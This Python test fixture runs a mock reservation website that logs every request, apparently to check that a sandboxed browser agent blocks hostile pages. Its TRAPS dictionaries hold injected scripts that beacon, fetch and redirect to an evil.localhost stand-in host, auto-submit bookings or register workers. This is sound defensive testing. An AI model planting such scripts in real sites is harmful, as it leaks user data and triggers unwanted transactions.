"""A small real site to act on: things to reserve, with a log of everything that reached it as the oracle."""

from __future__ import annotations

import asyncio
import datetime as dt
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, PlainTextResponse, RedirectResponse, Response
from starlette.routing import Route

from tests.serving import serving

NAMES = {"maple": "Maple Room", "birch": "Birch & Sons", "willow": "Willow"}
TIMES = ("18:30", "19:30", "20:00")


@dataclass
class Shop:
    """The site's state; `log` is every request as it arrived: (method, host, path)."""

    mode: str = ""
    log: list[tuple[str, str, str]] = field(default_factory=list)
    booked: list[dict[str, str]] = field(default_factory=list)
    holds: dict[str, dict[str, str]] = field(default_factory=dict)
    port: int = 0
    delay: float = 0

    @property
    def origin(self) -> str:
        return f"http://shop.localhost:{self.port}"

    @property
    def evil(self) -> str:
        return f"http://evil.localhost:{self.port}"

    def writes(self) -> list[tuple[str, str, str]]:
        return [entry for entry in self.log if entry[0] not in {"GET", "HEAD"}]

    def elsewhere(self) -> list[tuple[str, str, str]]:
        return [entry for entry in self.log if not entry[1].startswith("shop.localhost")]


def page(body: str, who: str | None = "Ada Marsh", title: str = "Shop") -> HTMLResponse:
    head = f"<p>Signed in as <b>{who}</b> · <a href='/logout'>Log out</a></p>" if who else "<a href='/login'>Log in</a>"
    return HTMLResponse(f"<!doctype html><title>{title}</title><header>{head}</header><main>{body}</main>")


def who(request: Request) -> str | None:
    return request.cookies.get("who")


def terms(hold: dict[str, str]) -> str:
    pairs = {"Room": hold["name"], "Date": hold["long"], "Time": hold["time"], "Guests": f"{hold['party']} people"}
    return (
        "<dl>"
        + "".join(f"<dt>{k}</dt><dd>{v}</dd>" for k, v in pairs.items())
        + f"<dt>Price</dt><dd>{hold['price']}</dd>"
    )


def build(shop: Shop) -> Starlette:
    async def rooms(request: Request) -> Response:
        if shop.mode == "down":
            return PlainTextResponse("down", 503)
        if shop.mode == "empty":
            return page("<h1>Nothing</h1>", who(request))
        cards = "".join(
            f"<article><h2><a href='/rooms/{slug}'>{name}</a></h2><p>A room.</p><script type='application/ld+json'>"
            + json.dumps(
                {
                    "@context": "https://schema.org",
                    "@type": "Restaurant",
                    "name": name,
                    "url": f"/rooms/{slug}",
                    "servesCuisine": ["Nordic"],
                    "address": {"@type": "PostalAddress", "addressLocality": "Old Town"},
                    "offers": [{"@type": "Offer", "availabilityStarts": f"2026-11-21T{t}:00"} for t in TIMES],
                }
            )
            + "</script></article>"
            for slug, name in NAMES.items()
        )
        if shop.mode == "advert":
            cards = f"<article><h2><a href='{shop.evil}/rooms/elm'>Elm</a></h2></article>{cards}"
        return page(cards, who(request))

    async def room(request: Request) -> Response:
        slug = request.path_params["slug"]
        query = request.query_params
        menu = {
            "@context": "https://schema.org",
            "@type": "Restaurant",
            "name": NAMES[slug],
            "url": f"/rooms/{slug}",
            "description": "Quiet.",
            "hasMenu": {
                "@type": "Menu",
                "hasMenuSection": [
                    {
                        "@type": "MenuSection",
                        "hasMenuItem": [
                            {
                                "@type": "MenuItem",
                                "name": "Beet soup",
                                "description": "contains: celery",
                                "suitableForDiet": "https://schema.org/VeganDiet",
                                "offers": {"@type": "Offer", "price": "9.50", "priceCurrency": "EUR"},
                            }
                        ],
                    }
                ],
            },
        }
        form = (
            "<form><label>Guests <select name=party>"
            + "".join(f"<option value={n}>{n} people</option>" for n in range(1, 7))
            + "</select></label><label>Date <input type=date name=date></label><button>Find times</button></form>"
        )
        times = "".join(
            f"<form method=post action=/hold><input type=hidden name=slug value={slug}><input type=hidden name=date "
            f"value={query['date']}><input type=hidden name=party value={query['party']}>"
            f"<input type=hidden name=time value={t}><button>{t}</button></form>"
            for t in (TIMES if query.get("date") else ())
        )
        trap = TRAPS.get(shop.mode, "").replace("EVIL", shop.evil)
        ld = f"<script type='application/ld+json'>{json.dumps(menu)}</script>"
        view = "<svg viewBox='0 0 40 20' width=400 height=200><rect width=40 height=20 fill=teal></svg>"
        view += "<svg><a href=/rooms/birch><text>Birch</text></a></svg>"
        picture = view if slug == "maple" else "<img src=/logo.svg width=16 height=16 alt=''>"
        return page(f"<h1>{NAMES[slug]}</h1>{picture}{ld}{form}{times}{trap}", who(request))

    async def hold(request: Request) -> Response:
        if who(request) is None:
            return RedirectResponse("/login", 303)
        if shop.mode == "redirect_307":
            return RedirectResponse(f"{shop.evil}/hold", 307)
        if shop.mode == "redirect_303":
            return RedirectResponse(f"{shop.evil}/landing", 303)
        form = await request.form()
        day = dt.date.fromisoformat(str(form["date"]))
        key = str(len(shop.holds) + 1)
        shop.holds[key] = {
            "name": NAMES[str(form["slug"])] if shop.mode != "swapped" else "Cellar",
            "date": day.isoformat(),
            "long": f"{day:%A} {day.day} {day:%B %Y}",
            "time": str(form["time"]) if shop.mode != "later" else "21:30",
            "party": str(form["party"]),
            "price": "No charge" if shop.mode != "price" else "€10.00",
        }
        return RedirectResponse(f"/hold/{key}", 303)

    async def review(request: Request) -> Response:
        key = request.path_params["key"]
        if shop.mode == "captcha":
            return page("<h1>One moment</h1><p>Please confirm that you are human.</p>", who(request))
        trap = REVIEW_TRAPS.get(shop.mode, "").replace("EVIL", shop.evil)
        form = (
            f"<form method=post action=/reservations><input type=hidden name=hold value={key}>"
            "<button>Complete reservation</button></form>"
        )
        return page(f"<h1>Review</h1>{terms(shop.holds[key])}</dl>{form}{trap}", who(request))

    async def commit(request: Request) -> Response:
        form = await request.form()
        if shop.mode == "refuse_commit":
            return page("<h1>Sorry</h1>", who(request))
        if shop.mode in {"slow", "slow_commit"}:
            await asyncio.sleep(shop.delay)
        shop.booked.append(shop.holds[str(form["hold"])] | {"number": f"R-{len(shop.booked) + 1:04d}"})
        if shop.mode == "bad_gateway":
            return PlainTextResponse("bad gateway", 502)
        return RedirectResponse(f"/reservations/{len(shop.booked)}", 303)

    async def confirmation(request: Request) -> Response:
        made = shop.booked[int(request.path_params["key"]) - 1]
        number = "" if shop.mode == "no_number" else f"<dt>Confirmation number</dt><dd>{made['number']}</dd>"
        return page(f"<h1>Reserved</h1>{terms(made)}{number}</dl>", who(request))

    async def mine(request: Request) -> Response:
        if shop.mode == "list_down" or (shop.mode == "bad_gateway_list_down"):
            return PlainTextResponse("down", 503)
        items = "".join(
            f"<article><h2>{m['name']}</h2>{terms(m)}<dt>Confirmation number</dt><dd>{m['number']}</dd></dl></article>"
            for m in shop.booked
        )
        return page(f"<h1>Mine</h1>{items}", who(request))

    async def login(request: Request) -> Response:
        if request.method == "POST":
            answer = RedirectResponse("/rooms", 303)
            answer.set_cookie("who", str((await request.form())["name"]), max_age=86400)
            return answer
        return page(
            "<form method=post><label>Name <input name=name></label><input type=password name=p>"
            "<button>Log in</button></form>",
            None,
        )

    async def anything(request: Request) -> Response:
        return JSONResponse({}, headers={"access-control-allow-origin": "*"})

    async def worker(request: Request) -> Response:
        script = f"fetch('{shop.evil}/worker', {{method: 'POST', mode: 'no-cors'}}); fetch('/own', {{method: 'POST'}})"
        return Response(script, media_type="text/javascript")

    routes = [
        Route("/rooms", rooms),
        Route("/rooms/{slug}", room),
        Route("/hold", hold, methods=["POST"]),
        Route("/hold/{key}", review),
        Route("/reservations", commit, methods=["POST"]),
        Route("/reservations/{key}", confirmation),
        Route("/my/reservations", mine),
        Route("/login", login, methods=["GET", "POST"]),
        Route("/worker.js", worker),
        Route("/{rest:path}", anything, methods=["GET", "POST", "PUT", "DELETE", "OPTIONS"]),
    ]
    app = Starlette(routes=routes)

    async def logged(scope, receive, send):  # type: ignore[no-untyped-def]
        if scope["type"] in {"http", "websocket"}:
            host = dict(scope["headers"]).get(b"host", b"").decode()
            shop.log.append((scope.get("method", "WEBSOCKET"), host, scope["path"]))
        await app(scope, receive, send)

    return logged  # type: ignore[return-value]


# What a hostile page tries as soon as it is open: each must end at the barrier.
TRAPS = {
    "beacon": "<script>navigator.sendBeacon('/beacon', 'x'); navigator.sendBeacon('EVIL/beacon', 'x')</script>",
    "keepalive": "<script>addEventListener('pagehide', () => {fetch('/ka', {method: 'POST', keepalive: true}); "
    "fetch('EVIL/ka', {method: 'POST', keepalive: true, mode: 'no-cors'}); "
    "navigator.sendBeacon('EVIL/bye', 'x')})</script>",
    "worker": "<script>new Worker('/worker.js'); new SharedWorker('/worker.js'); "
    "navigator.serviceWorker.register('/worker.js').catch(() => {})</script>",
    "popup": "<script>open('EVIL/popup'); setTimeout(() => document.querySelector('a').click())</script>"
    "<a href='EVIL/tab' target=_blank>x</a>",
    "websocket": "<script>new WebSocket('ws://' + location.host + '/ws'); "
    "new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://${location.host}/ws2')`])))</script>",
    "image": "<img src='EVIL/pixel.gif'><iframe src='EVIL/frame'></iframe><link rel=stylesheet href='EVIL/a.css'>"
    "<link rel=prefetch href='EVIL/pre'><link rel=preconnect href='EVIL'>",
    "ahead": '<script type=speculationrules>{"prefetch": [{"urls": ["EVIL/ahead"], "eagerness": "immediate"}]}'
    "</script><script>new PaymentRequest([{supportedMethods: 'EVIL/pay'}], {total: {label: 'x', amount: {currency: "
    "'EUR', value: '1'}}}).canMakePayment()</script>",  # the browser's own requests: the wall ends them
    "identity": "<script>navigator.credentials.get({identity: {providers: "
    "[{configURL: 'EVIL/id.json', clientId: 'x'}]}})"
    "</script>",
    "leave": "<script>location = 'EVIL/landing'</script>",
    "meta": "<meta http-equiv=refresh content='0;url=EVIL/landing'>",
    "autopost": "<form method=post action=/reservations id=f><input name=hold></form><script>f.submit()</script>",
    "dialog": "<script>setTimeout(() => { if (confirm('Insure?')) fetch('/insurance', {method: 'POST'}) })</script>",
}
REVIEW_TRAPS = {
    "double": "<script>document.forms[0].addEventListener('submit', () => {"
    "fetch('/reservations', {method: 'POST', keepalive: true, body: new URLSearchParams({hold: 1})})})</script>",
    "two_buttons": "<button>Complete reservation</button>",
    "never_sends": "<script>document.forms[0].onsubmit = () => false</script>",
    "early": "<script>fetch('/reservations', {method: 'POST', body: new URLSearchParams({hold: 1})})</script>",
}


@contextmanager
def opened() -> Iterator[Shop]:
    """The shop on a free port, in a thread."""
    shop = Shop()
    with serving(build(shop)) as shop.port:
        yield shop
